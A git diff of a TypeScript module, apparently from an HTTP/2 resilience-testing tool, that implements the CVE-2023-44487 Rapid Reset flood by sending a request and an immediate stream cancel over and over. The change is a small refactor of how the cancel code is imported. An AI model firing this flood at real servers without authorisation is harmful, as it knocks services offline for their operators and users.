@@ -1,7 +1,10 @@
-/** CVE-2023-44487: a request and its cancellation, back to back, again and again — streams that cost the target work and never count as open. */
-import { rstStreamFrame } from '../../h2/frames.ts';
+/**
+ * CVE-2023-44487: a request and its cancellation (RST_STREAM CANCEL, what a browser sends when the user
+ * navigates away), back to back, again and again — streams that cost the target work and never count as open.
+ */
+import { ErrorCode, rstStreamFrame } from '../../h2/frames.ts';
 import { Engagement } from '../engagement.ts';
-import { CANCEL, headersFrame, requestBlock } from '../frames.ts';
+import { headersFrame, requestBlock } from '../frames.ts';
 import { answer, floodRefusal, notDelivered } from './answers.ts';
 import { definePattern } from './types.ts';
 
@@ -20,7 +23,7 @@ export default definePattern({
     const peer = await e.open({ handshake: true });
     if (peer !== null) {
       const block = requestBlock({ method: 'GET', authority: ctx.target.authority, path: ctx.paths.small });
-      e.sent(await peer.writeUnits(p.streams, (i) => [headersFrame(2 * i + 1, block, { endStream: true, endHeaders: true }), rstStreamFrame(2 * i + 1, CANCEL)], ctx.budget));
+      e.sent(await peer.writeUnits(p.streams, (i) => [headersFrame(2 * i + 1, block, { endStream: true, endHeaders: true }), rstStreamFrame(2 * i + 1, ErrorCode.CANCEL)], ctx.budget));
     }
     return e.finish();
   },
